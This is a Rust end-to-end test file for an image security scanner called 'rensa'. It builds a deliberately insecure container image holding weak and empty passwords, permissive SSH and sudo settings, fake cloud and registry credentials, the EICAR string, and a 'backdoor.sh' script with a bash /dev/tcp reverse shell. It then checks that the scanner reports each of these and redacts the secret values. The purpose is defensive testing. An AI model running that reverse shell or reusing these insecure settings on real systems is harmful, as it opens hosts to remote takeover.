//! End-to-end accuracy of the image checks through the `rensa` binary (issue 4): a three-layer image that
//! plants every condition the config, password, secret and malware rules look for gets exactly the
//! expected findings (rule id, severity, path, layer), written by hand from the rules; secret values never
//! reach any output format; the default policy blocks on what it should; the scanner, secret, malware and
//! password-budget flags do what they say. A clean Debian 12 minbase root filesystem (the benchmark's
//! reference rootfs, when this machine has it) gets only the findings that are truly there.
//!
//! Fixtures (tests/fixtures/checks/): two throwaway ed25519 keys made with ssh-keygen for this test, and
//! the sha512crypt hash of a common password with the command that made it. The EICAR test string is put
//! together from two halves at run time, so no file of the repository holds it whole.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use rensa_testkit::{self as kit, E, ImageSpec, file};
use serde_json::{Value, json};

fn fixture(name: &str) -> Vec<u8> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/checks")
        .join(name);
    std::fs::read(&p).unwrap_or_else(|e| panic!("{}: {e}", p.display()))
}

/// The hash line of `weak-password.txt` (the lines before it are comments).
fn weak_hash() -> String {
    let text = String::from_utf8(fixture("weak-password.txt")).unwrap();
    text.lines()
        .find(|l| !l.starts_with('#'))
        .unwrap()
        .trim()
        .to_string()
}

/// The EICAR test file: the 68-byte string, from its two halves.
fn eicar() -> Vec<u8> {
    let s = [
        r"X5O!P%@AP[4\PZX54(P^)7CC)7}$",
        "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    ]
    .concat();
    assert_eq!(s.len(), 68);
    s.into_bytes()
}

/// A made-up AWS key pair (the rules report it: it is not AWS's documented example).
const AWS_KEY_ID: &str = "AKIANICPLKA8YHI85D63";
const AWS_SECRET: &str = "rqzKKt9qLg488dTComd5SGrZo1x5OXFLXfNqEOoV";
/// AWS's documented example pair: a placeholder the rules must not report.
const AWS_EXAMPLE_ID: &str = "AKIAIOSFODNN7EXAMPLE";
const AWS_EXAMPLE_SECRET: &str = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
/// A legacy (UUID) npm token in `.npmrc`.
const NPM_TOKEN: &str = "fea308ec-3b0b-4d42-ac96-7a3dabb5e43a";
/// `base64("deploy:Xq7vLp2Rt9zKw4")`, the registry login in `.docker/config.json`.
const DOCKER_AUTH: &str = "ZGVwbG95OlhxN3ZMcDJSdDl6S3c0";
const DOCKER_PASSWORD: &str = "Xq7vLp2Rt9zKw4";
/// The image's `Env DB_PASSWORD`.
const ENV_PASSWORD: &str = "Tr0ub4dor-and-3";
/// The password of account `deploy` (rank 49 of the common-password list).
const WEAK_PASSWORD: &str = "sunshine";

const PASSWD: &str = "root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
sshd:x:100:65534::/run/sshd:/usr/sbin/nologin
toor:x:0:0::/root:/bin/bash
guest:x:1000:1000::/home/guest:/bin/bash
deploy:x:1001:1001::/home/deploy:/bin/bash
";

const SSHD_CONFIG: &str = "# Debian 12's layout: drop-ins first, so their values win.
Include /etc/ssh/sshd_config.d/*.conf
PermitRootLogin yes
PasswordAuthentication yes
PermitEmptyPasswords yes
X11Forwarding yes
";

/// The planted image: layer 0 is the system, layer 1 the application and its leftovers, layer 2 a
/// "cleanup" that deletes the SSH key (a whiteout) and adds a sudoers drop-in.
fn planted(dir: &Path) -> String {
    let shadow = format!(
        "root:*:19700:0:99999:7:::\ndaemon:*:19700:0:99999:7:::\nsshd:*:19700:0:99999:7:::\n\
         toor:!:19700:0:99999:7:::\nguest::19700:0:99999:7:::\ndeploy:{}:19700:0:99999:7:::\n",
        weak_hash()
    );
    let base = vec![
        file(
            "etc/os-release",
            "ID=debian\nVERSION_ID=\"12\"\nVERSION_CODENAME=bookworm\n",
        ),
        file("etc/passwd", PASSWD),
        E::File("etc/shadow", shadow.into_bytes(), 0o640),
        file("etc/group", "root:x:0:\nguest:x:1000:\ndeploy:x:1001:\n"),
        file("etc/shells", "/bin/sh\n/bin/bash\n/usr/bin/bash\n"),
        file(
            "etc/login.defs",
            "PASS_MAX_DAYS\t99999\nPASS_MIN_DAYS\t0\nPASS_WARN_AGE\t7\nUMASK\t\t022\nENCRYPT_METHOD SHA512\n",
        ),
        file(
            "etc/pam.d/common-auth",
            "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\tpam_deny.so\n",
        ),
        file(
            "etc/pam.d/common-password",
            "password\t[success=1 default=ignore]\tpam_unix.so obscure yescrypt\n",
        ),
        E::File(
            "etc/sudoers",
            b"Defaults\tenv_reset\nroot\tALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n".to_vec(),
            0o440,
        ),
        E::File(
            "usr/sbin/sshd",
            b"\x7fELF\x02\x01\x01\0fake sshd\0".to_vec(),
            0o755,
        ),
        file("etc/ssh/sshd_config", SSHD_CONFIG),
        E::File(
            "etc/ssh/ssh_host_ed25519_key",
            fixture("ssh_host_ed25519_key"),
            0o600,
        ),
        file(
            "lib/systemd/system/ssh.service",
            "[Service]\nExecStart=/usr/sbin/sshd -D\n",
        ),
        E::Symlink(
            "etc/systemd/system/multi-user.target.wants/ssh.service",
            "/lib/systemd/system/ssh.service",
        ),
        E::File(
            "usr/local/bin/suid-helper",
            b"\x7fELF\x02\x01\x01\0fake helper\0".to_vec(),
            0o4755,
        ),
        E::DirMode("opt/tools/bin", 0o777),
        file(
            "var/cache/apt/archives/openssh-server_1%3a9.2p1-2+deb12u3_amd64.deb",
            "!<arch>\ndebian-binary   \n",
        ),
    ];
    let app = vec![
        file(
            "etc/ssh/sshd_config.d/50-legacy.conf",
            "Ciphers aes128-cbc,3des-cbc,aes256-ctr\n",
        ),
        file(
            "root/.aws/credentials",
            format!("[default]\naws_access_key_id = {AWS_KEY_ID}\naws_secret_access_key = {AWS_SECRET}\n"),
        ),
        file(
            "srv/docs/aws-credentials",
            format!(
                "[default]\naws_access_key_id = {AWS_EXAMPLE_ID}\naws_secret_access_key = {AWS_EXAMPLE_SECRET}\n"
            ),
        ),
        E::File("root/.ssh/id_ed25519", fixture("id_ed25519"), 0o600),
        file(
            "root/.npmrc",
            format!("registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken={NPM_TOKEN}\n"),
        ),
        file(
            "root/.docker/config.json",
            format!(
                "{{\n  \"auths\": {{\n    \"registry.corp.internal\": {{\n      \"auth\": \"{DOCKER_AUTH}\"\n    }}\n  }}\n}}\n"
            ),
        ),
        file("tmp/eicar.com", eicar()),
        E::File(
            "usr/local/bin/backdoor.sh",
            b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n".to_vec(),
            0o755,
        ),
    ];
    let cleanup = vec![
        file("root/.ssh/.wh.id_ed25519", ""),
        E::File(
            "etc/sudoers.d/deploy",
            b"deploy ALL=(ALL) NOPASSWD: ALL\n".to_vec(),
            0o440,
        ),
    ];
    let mut spec = ImageSpec::new(vec![
        kit::gz_layer(&base),
        kit::gz_layer(&app),
        kit::gz_layer(&cleanup),
    ]);
    spec.config = json!({
        "Env": [
            "PATH=/opt/tools/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
            format!("DB_PASSWORD={ENV_PASSWORD}"),
        ],
        "ExposedPorts": {"22/tcp": {}},
        "Entrypoint": ["/usr/sbin/sshd", "-D"],
    });
    kit::oci_layout(&dir.join("img"), &spec, "1");
    format!("oci:{}:1", dir.join("img").display())
}

/// (id, severity, path, layer) of one expected finding.
type Want = (&'static str, &'static str, Option<&'static str>, Option<u64>);

/// What the planted image must report, from the rules (crates/rensa-checks/src/config/*.rs, secret/rules.rs,
/// rules/*.yar), sorted like `found`.
fn expected() -> Vec<Want> {
    let mut v: Vec<Want> = vec![
        // /etc/passwd: root and toor share uid 0.
        ("duplicate-uid", "medium", Some("/etc/passwd"), Some(0)),
        // guest has an empty password field and a login shell.
        ("empty-password", "critical", Some("/etc/shadow"), Some(0)),
        // ExposedPorts 22/tcp.
        ("exposed-remote-login-port", "medium", None, None),
        // common-auth: pam_unix.so nullok.
        (
            "insecure-pam-nullok",
            "medium",
            Some("/etc/pam.d/common-auth"),
            Some(0),
        ),
        ("no-healthcheck", "low", None, None),
        // The .deb under /var/cache/apt/archives (the directory, the newest layer with a cached file).
        (
            "package-manager-cache",
            "low",
            Some("/var/cache/apt/archives"),
            Some(0),
        ),
        // PASS_MAX_DAYS 99999 (baseline 90), PASS_MIN_DAYS 0 (baseline 1); PASS_WARN_AGE 7 passes.
        ("password-max-age", "low", Some("/etc/login.defs"), Some(0)),
        ("password-min-age", "low", Some("/etc/login.defs"), Some(0)),
        // pam_unix without minlen= accepts 6 characters (baseline 8).
        (
            "password-min-length",
            "medium",
            Some("/etc/pam.d/common-password"),
            Some(0),
        ),
        // sshd installed and started by the Entrypoint and the systemd wants link.
        ("remote-login-enabled", "high", Some("/usr/sbin/sshd"), Some(0)),
        // guest (empty password, PermitEmptyPasswords yes) and deploy ("sunshine").
        (
            "remote-login-weak-password",
            "critical",
            Some("/etc/shadow"),
            Some(0),
        ),
        (
            "remote-login-weak-password",
            "critical",
            Some("/etc/shadow"),
            Some(0),
        ),
        // No User.
        ("root-user", "medium", None, None),
        // Env DB_PASSWORD.
        ("secret-in-env", "high", None, None),
        (
            "setuid-binary",
            "info",
            Some("/usr/local/bin/suid-helper"),
            Some(0),
        ),
        (
            "ssh-empty-passwords",
            "high",
            Some("/etc/ssh/sshd_config"),
            Some(0),
        ),
        (
            "ssh-host-keys-in-image",
            "high",
            Some("/etc/ssh/ssh_host_ed25519_key"),
            Some(0),
        ),
        // LoginGraceTime and MaxAuthTries not set: OpenSSH's defaults (120 s, 6) exceed the baseline
        // (60 s, 4); no file line, so no layer.
        ("ssh-login-grace-time", "low", Some("/etc/ssh/sshd_config"), None),
        ("ssh-max-auth-tries", "low", Some("/etc/ssh/sshd_config"), None),
        (
            "ssh-password-auth",
            "medium",
            Some("/etc/ssh/sshd_config"),
            Some(0),
        ),
        // Ciphers aes128-cbc,3des-cbc in the layer-1 drop-in.
        (
            "ssh-protocol-weak",
            "medium",
            Some("/etc/ssh/sshd_config.d/50-legacy.conf"),
            Some(1),
        ),
        ("ssh-root-login", "high", Some("/etc/ssh/sshd_config"), Some(0)),
        ("ssh-x11-forwarding", "low", Some("/etc/ssh/sshd_config"), Some(0)),
        // NOPASSWD in the layer-2 drop-in that /etc/sudoers includes.
        ("sudo-nopasswd", "medium", Some("/etc/sudoers.d/deploy"), Some(2)),
        // toor has uid 0.
        ("uid0-non-root", "high", Some("/etc/passwd"), Some(0)),
        // UMASK 022.
        ("umask-permissive", "low", Some("/etc/login.defs"), Some(0)),
        // /opt/tools/bin (mode 0777) is first on the image's PATH.
        ("world-writable-path", "high", Some("/opt/tools/bin"), Some(0)),
        // Secrets. The AWS example pair in /srv/docs/aws-credentials is a placeholder: not reported.
        (
            "secret-aws-access-key",
            "critical",
            Some("/root/.aws/credentials"),
            Some(1),
        ),
        (
            "secret-aws-secret-key",
            "critical",
            Some("/root/.aws/credentials"),
            Some(1),
        ),
        (
            "secret-docker-config-auth",
            "high",
            Some("/root/.docker/config.json"),
            Some(1),
        ),
        ("secret-npmrc-auth", "high", Some("/root/.npmrc"), Some(1)),
        // The host key in /etc/ssh is reported once, as ssh-host-keys-in-image (not again as a secret).
        // Deleted by layer 2's whiteout, still in layer 1.
        (
            "secret-private-key",
            "critical",
            Some("/root/.ssh/id_ed25519"),
            Some(1),
        ),
        // Malware: EICAR_Test_File (severity high), Reverse_Shell_Bash_Dev_Tcp (critical).
        ("malware", "high", Some("/tmp/eicar.com"), Some(1)),
        ("malware", "critical", Some("/usr/local/bin/backdoor.sh"), Some(1)),
    ];
    v.sort();
    v
}

/// The scanner (and the json `category`) of a rule id.
fn category_of(id: &str) -> &'static str {
    match id {
        "malware" => "malware",
        "secret-in-env" => "config",
        _ if id.starts_with("secret-") => "secret",
        _ => "config",
    }
}

fn rensa(args: &[&str], home: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_rensa"))
        .args(args)
        .current_dir(home)
        .env("XDG_CACHE_HOME", home)
        .env("SOURCE_DATE_EPOCH", "1700000000")
        .output()
        .expect("run rensa")
}

/// A temporary directory with the planted image; `scan` runs `rensa scan IMAGE` with an empty database
/// directory and the extra arguments (json unless they give `--format`).
struct Planted {
    dir: tempfile::TempDir,
    image: String,
}

impl Planted {
    fn new() -> Planted {
        let dir = tempfile::tempdir().unwrap();
        let image = planted(dir.path());
        Planted { dir, image }
    }

    fn scan(&self, extra: &[&str]) -> Output {
        let db = self.dir.path().join("no-db");
        let mut args = vec!["scan", &self.image, "--db", db.to_str().unwrap()];
        if !extra.contains(&"--format") {
            args.extend(["--format", "json"]);
        }
        args.extend_from_slice(extra);
        rensa(&args, self.dir.path())
    }
}

fn json_of(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: status {:?}, stderr {}",
            out.status,
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

type Got = (String, String, Option<String>, Option<u64>);

fn found(v: &Value) -> Vec<Got> {
    let mut got: Vec<Got> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["id"].as_str().unwrap().to_string(),
                f["severity"].as_str().unwrap().to_string(),
                f["path"].as_str().map(str::to_string),
                f["layer"].as_u64(),
            )
        })
        .collect();
    got.sort();
    got
}

fn owned(want: &[Want]) -> Vec<Got> {
    let mut v: Vec<Got> = want
        .iter()
        .map(|(id, sev, path, layer)| (id.to_string(), sev.to_string(), path.map(str::to_string), *layer))
        .collect();
    v.sort();
    v
}

/// The details of the findings with `id`, in report order.
fn details(v: &Value, id: &str) -> Vec<String> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["id"] == id)
        .map(|f| f["detail"].as_str().unwrap().to_string())
        .collect()
}

fn reason_ids(v: &Value) -> Vec<String> {
    let mut ids: Vec<String> = v["policy"]["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["id"].as_str().unwrap().to_string())
        .collect();
    ids.sort();
    ids
}

#[test]
fn planted_image_gets_exactly_the_expected_findings() {
    let p = Planted::new();
    let out = p.scan(&[]);
    // No --policy and no --exit-code: a block verdict is reported, the exit code stays 0.
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v = json_of(&out);
    assert_eq!(found(&v), owned(&expected()));
    for f in v["findings"].as_array().unwrap() {
        let category = f["category"].as_str().unwrap();
        let id = f["id"].as_str().unwrap();
        assert_eq!(category, category_of(id), "{id}");
        for key in ["title", "detail", "remediation"] {
            assert!(!f[key].as_str().unwrap().is_empty(), "{id} {key}");
        }
        assert!(!f["references"].as_array().unwrap().is_empty(), "{id}");
    }

    // The deleted key: reported with the layer that holds it, and said to be deleted.
    let key = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["path"] == "/root/.ssh/id_ed25519")
        .unwrap();
    let detail = key["detail"].as_str().unwrap();
    assert!(
        detail.contains("deleted or replaced by a later layer") && detail.contains("layer 1 still holds it"),
        "{detail}"
    );
    // The live host key is reported by ssh-host-keys-in-image alone, not again as a secret.
    assert_eq!(details(&v, "secret-private-key").len(), 1);

    // How remote login is enabled, and why each weak-password finding fires.
    let remote = details(&v, "remote-login-enabled");
    assert!(
        remote[0].starts_with(
            "OpenSSH sshd installed (/usr/sbin/sshd) and started by: image Entrypoint/Cmd: /usr/sbin/sshd -D; \
             systemd: /etc/systemd/system/multi-user.target.wants/ssh.service"
        ),
        "{}",
        remote[0]
    );
    assert!(!remote[0].contains("not fully checked"), "{}", remote[0]);
    let weak = details(&v, "remote-login-weak-password");
    assert!(
        weak.iter()
            .any(|d| d.contains("account guest has an empty password")
                && d.contains("PermitEmptyPasswords yes")),
        "{weak:?}"
    );
    assert!(
        weak.iter().any(
            |d| d.contains("account deploy (uid 1001) has a guessable password") && d.contains("sha512crypt")
        ),
        "{weak:?}"
    );
    let empty = details(&v, "empty-password");
    assert!(
        empty[0].starts_with(
            "Account guest (uid 1000, shell /bin/bash) has an empty password field (/etc/shadow line 5)."
        ),
        "{}",
        empty[0]
    );
    let weak_ciphers = details(&v, "ssh-protocol-weak");
    assert!(
        weak_ciphers[0].contains("weak: Ciphers: aes128-cbc,3des-cbc"),
        "{}",
        weak_ciphers[0]
    );
    let path = details(&v, "world-writable-path");
    assert!(
        path[0].starts_with(
            "/opt/tools/bin on the image Env PATH: world-writable without the sticky bit (mode 0777)"
        ),
        "{}",
        path[0]
    );
    let env = details(&v, "secret-in-env");
    assert!(
        env[0].starts_with("image config: Env DB_PASSWORD=Tr*** (15 characters)"),
        "{}",
        env[0]
    );
    let malware = details(&v, "malware");
    assert!(
        malware.iter().any(|d| d.contains("EICAR_Test_File")),
        "{malware:?}"
    );
    assert!(
        malware.iter().any(|d| d.contains("Reverse_Shell_Bash_Dev_Tcp")),
        "{malware:?}"
    );

    // The default policy blocks on remote login, the weak passwords, malware and the critical secrets.
    assert_eq!(v["verdict"], "block");
    assert_eq!(v["policy"]["source"], "built-in default");
    let mut want: Vec<String> = [
        "malware",
        "malware",
        "remote-login-enabled",
        "remote-login-weak-password",
        "remote-login-weak-password",
        "secret-aws-access-key",
        "secret-aws-secret-key",
        "secret-private-key",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    want.sort();
    assert_eq!(reason_ids(&v), want);
}

/// Every value the image plants: none may appear in any output format.
fn secret_values() -> Vec<String> {
    let mut v: Vec<String> = [
        AWS_KEY_ID,
        AWS_SECRET,
        AWS_EXAMPLE_ID,
        AWS_EXAMPLE_SECRET,
        NPM_TOKEN,
        DOCKER_AUTH,
        DOCKER_PASSWORD,
        ENV_PASSWORD,
        WEAK_PASSWORD,
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    v.push(weak_hash());
    // Every base64 line of both private keys.
    for key in ["id_ed25519", "ssh_host_ed25519_key"] {
        let text = String::from_utf8(fixture(key)).unwrap();
        v.extend(
            text.lines()
                .filter(|l| !l.starts_with("-----"))
                .map(str::to_string),
        );
    }
    v
}

#[test]
fn secret_values_never_appear_in_any_format() {
    let p = Planted::new();
    let secrets = secret_values();
    for format in ["json", "table", "sarif", "cyclonedx"] {
        let out = p.scan(&["--format", format]);
        assert_eq!(
            out.status.code(),
            Some(0),
            "{format}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let stdout = String::from_utf8_lossy(&out.stdout);
        let stderr = String::from_utf8_lossy(&out.stderr);
        // The output does talk about the findings.
        assert!(stdout.contains("secret-aws-access-key"), "{format}");
        for s in &secrets {
            assert!(!stdout.contains(s.as_str()), "{format}: stdout holds {s}");
            assert!(!stderr.contains(s.as_str()), "{format}: stderr holds {s}");
        }
    }
}

#[test]
fn exit_code_and_scanner_selection() {
    let p = Planted::new();
    let out = p.scan(&["--exit-code", "4"]);
    assert_eq!(out.status.code(), Some(4));
    assert_eq!(json_of(&out)["verdict"], "block");

    let out = p.scan(&["--scanners", "vuln", "--exit-code", "4"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v = json_of(&out);
    assert_eq!(v["findings"], json!([]));
    assert_eq!(v["verdict"], "pass");

    // Each scanner alone reports its share of the expected findings.
    for scanner in ["config", "secret", "malware"] {
        let out = p.scan(&["--scanners", scanner]);
        let mut want: Vec<Want> = expected()
            .into_iter()
            .filter(|w| category_of(w.0) == scanner)
            .collect();
        if scanner == "secret" {
            // Without the config scanner nothing else reports the host key: the secret scanner does.
            want.push((
                "secret-private-key",
                "critical",
                Some("/etc/ssh/ssh_host_ed25519_key"),
                Some(0),
            ));
            want.sort();
        }
        assert_eq!(found(&json_of(&out)), owned(&want), "--scanners {scanner}");
    }
}

#[test]
fn secret_allow_and_skip_rule() {
    let p = Planted::new();
    let out = p.scan(&[
        "--secret-allow",
        "/root/.aws",
        "--secret-allow",
        "/root/**/config.json",
    ]);
    let want: Vec<Want> = expected()
        .into_iter()
        .filter(|w| !matches!(w.2, Some("/root/.aws/credentials" | "/root/.docker/config.json")))
        .collect();
    assert_eq!(found(&json_of(&out)), owned(&want));

    let out = p.scan(&["--secret-skip-rule", "secret-private-key"]);
    let want: Vec<Want> = expected()
        .into_iter()
        .filter(|w| w.0 != "secret-private-key")
        .collect();
    let v = json_of(&out);
    assert_eq!(found(&v), owned(&want));
    // The config rule on host keys does not depend on the secret scanner.
    assert!(found(&v).iter().any(|f| f.0 == "ssh-host-keys-in-image"));

    let out = p.scan(&["--secret-skip-rule", "secret-no-such-rule"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("secret-no-such-rule"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn broken_malware_rule_is_an_error_naming_the_file() {
    let p = Planted::new();
    let rules = p.dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::write(
        rules.join("ok.yar"),
        "rule Planted_Marker { strings: $a = \"203.0.113.7\" condition: $a }\n",
    )
    .unwrap();
    let out = p.scan(&["--malware-rules", rules.to_str().unwrap()]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v = json_of(&out);
    let extra: Vec<Got> = found(&v)
        .into_iter()
        .filter(|f| f.0 == "malware" && f.2.as_deref() == Some("/usr/local/bin/backdoor.sh"))
        .collect();
    // The user's rule (no severity meta: high) joins the built-in reverse-shell rule on the script.
    assert_eq!(extra.len(), 2, "{extra:?}");
    assert!(
        details(&v, "malware")
            .iter()
            .any(|d| d.contains("Planted_Marker"))
    );

    std::fs::write(rules.join("broken.yar"), "rule Broken { condition: $nope }\n").unwrap();
    let out = p.scan(&["--malware-rules", rules.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(out.stdout.is_empty());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("broken.yar"), "{stderr}");
}

#[test]
fn zero_password_budget_says_the_check_did_not_finish() {
    let p = Planted::new();
    let out = p.scan(&["--password-budget", "0"]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v = json_of(&out);
    // deploy's password is not guessed; guest's empty password needs no guessing.
    let want: Vec<Want> = {
        let mut w = expected();
        let i = w
            .iter()
            .position(|f| f.0 == "remote-login-weak-password")
            .unwrap();
        w.remove(i);
        w
    };
    assert_eq!(found(&v), owned(&want));
    let weak = details(&v, "remote-login-weak-password");
    assert!(
        weak[0].contains("account guest has an empty password"),
        "{weak:?}"
    );
    let remote = details(&v, "remote-login-enabled");
    assert!(
        remote[0].contains(
            ". Note: the password of account deploy was not fully checked: \
             the password budget ran out after 0 of "
        ),
        "{}",
        remote[0]
    );
    let warnings: Vec<&str> = v["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|w| w.as_str().unwrap())
        .collect();
    assert!(
        warnings
            .iter()
            .any(|w| w.starts_with("the password of account deploy was not fully checked")),
        "{warnings:?}"
    );
}

/// The benchmark's reference root filesystem (scripts/build-reference-image.sh): Debian 12
/// `debootstrap --variant=minbase` with openssh-server, python3 and curl. CI does not have it.
fn reference_rootfs() -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../.cache/bench/rootfs");
    p.join("var/lib/dpkg/status").is_file().then_some(p)
}

/// A clean Debian 12 minbase system: no malware; config findings only for what is truly there. The
/// secret scanner reports the three SSH host keys that openssh-server's postinst generated (see the
/// comment at the end). `dir:` has no image config, so it is judged as an image whose config is empty:
/// no User (root-user) and no Healthcheck (no-healthcheck), nothing exposed, no Env.
#[test]
fn clean_debian12_rootfs() {
    let Some(rootfs) = reference_rootfs() else {
        eprintln!(
            "\n*** SKIPPED clean_debian12_rootfs: no .cache/bench/rootfs (make it with \
             scripts/build-reference-image.sh; CI never has it) ***\n"
        );
        return;
    };
    let home = tempfile::tempdir().unwrap();
    let image = format!("dir:{}", rootfs.display());
    let db = home.path().join("no-db");
    let out = rensa(
        &["scan", &image, "--db", db.to_str().unwrap(), "--format", "json"],
        home.path(),
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v = json_of(&out);
    let mut want: Vec<Want> = vec![
        // common-auth line 17: pam_unix.so nullok (Debian's default).
        (
            "insecure-pam-nullok",
            "medium",
            Some("/etc/pam.d/common-auth"),
            Some(0),
        ),
        // dir: has no image config.
        ("no-healthcheck", "low", None, None),
        ("root-user", "medium", None, None),
        // debootstrap leaves the downloaded .debs and the package lists.
        (
            "package-manager-cache",
            "low",
            Some("/var/cache/apt/archives"),
            Some(0),
        ),
        (
            "package-manager-cache",
            "low",
            Some("/var/lib/apt/lists"),
            Some(0),
        ),
        // login.defs: PASS_MAX_DAYS 99999, PASS_MIN_DAYS 0, UMASK 022; pam_unix without minlen (6).
        ("password-max-age", "low", Some("/etc/login.defs"), Some(0)),
        ("password-min-age", "low", Some("/etc/login.defs"), Some(0)),
        (
            "password-min-length",
            "medium",
            Some("/etc/pam.d/common-password"),
            Some(0),
        ),
        ("umask-permissive", "low", Some("/etc/login.defs"), Some(0)),
        // openssh-server is enabled (systemd wants link and rc2-5.d links) and generated host keys.
        ("remote-login-enabled", "high", Some("/usr/sbin/sshd"), Some(0)),
        (
            "ssh-host-keys-in-image",
            "high",
            Some("/etc/ssh/ssh_host_ecdsa_key"),
            Some(0),
        ),
        // Debian's sshd_config: X11Forwarding yes on line 32; the rest are OpenSSH defaults (no line).
        ("ssh-login-grace-time", "low", Some("/etc/ssh/sshd_config"), None),
        ("ssh-max-auth-tries", "low", Some("/etc/ssh/sshd_config"), None),
        ("ssh-password-auth", "medium", Some("/etc/ssh/sshd_config"), None),
        ("ssh-x11-forwarding", "low", Some("/etc/ssh/sshd_config"), Some(0)),
    ];
    // The 13 setuid/setgid programs of a minbase system with openssh-server.
    for path in [
        "/usr/bin/chage",
        "/usr/bin/chfn",
        "/usr/bin/chsh",
        "/usr/bin/expiry",
        "/usr/bin/gpasswd",
        "/usr/bin/mount",
        "/usr/bin/newgrp",
        "/usr/bin/passwd",
        "/usr/bin/ssh-agent",
        "/usr/bin/su",
        "/usr/bin/umount",
        "/usr/lib/openssh/ssh-keysign",
        "/usr/sbin/unix_chkpwd",
    ] {
        want.push(("setuid-binary", "info", Some(path), Some(0)));
    }
    assert_eq!(found(&v), owned(&want));
    // No secret or malware findings at all (issue 4): the generated host keys are reported once, by the
    // config rule ssh-host-keys-in-image, not again by the secret scanner.
    let categories: Vec<&str> = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["category"].as_str().unwrap())
        .collect();
    assert!(!categories.contains(&"malware") && !categories.contains(&"secret"));
    assert_eq!(reason_ids(&v), ["remote-login-enabled"]);
}
